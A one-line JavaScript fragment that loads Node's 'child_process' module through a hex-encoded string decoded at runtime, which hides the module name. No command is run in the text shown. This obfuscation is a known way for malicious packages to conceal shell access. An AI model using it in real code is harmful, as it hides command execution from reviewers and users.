const cp = require(Buffer.from('6368696c645f70726f63657373', 'hex').toString());
